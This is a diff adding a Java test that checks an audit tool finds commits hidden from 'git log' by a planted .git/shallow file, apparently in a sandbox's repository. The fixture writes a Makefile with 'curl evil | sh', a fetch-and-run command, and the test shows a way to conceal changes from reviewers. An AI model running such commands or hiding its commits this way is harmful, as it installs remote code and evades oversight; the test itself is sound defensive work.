@@ -160,6 +160,24 @@ class HiddenChangesTest {
                 .satisfies(finding -> assertThat(finding.file()).isEqualTo("repo/.git/info/grafts"));
     }
 
+    /** Commits the sandbox made, under one it made after them: a shallow list hides them from git log. */
+    @Test
+    void aShallowListThatCutsHistoryShortIsFound() throws Exception {
+        Path repo = repository("sha1", 1);
+        Files.writeString(repo.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
+        commitAll(repo);
+        Files.writeString(repo.resolve("README"), "nothing to see\n");
+        commitAll(repo);
+        String head = git(repo, "rev-parse", "HEAD").strip();
+        Files.writeString(repo.resolve(".git/shallow"), head + "\n");
+        assertThat(git(repo, "log", "--oneline").lines()).as("git log shows one commit of three").hasSize(1);
+
+        assertThat(about(audit(repo.getParent()), "shallow commits")).singleElement().satisfies(finding -> {
+            assertThat(finding.file()).isEqualTo("repo/.git/shallow");
+            assertThat(finding.command()).startsWith(head + "; sha256 ");
+        });
+    }
+
     @Test
     void anIndexTheAuditCannotReadIsReportedNotSkipped() throws Exception {
         Path repo = repository("sha1", 5);
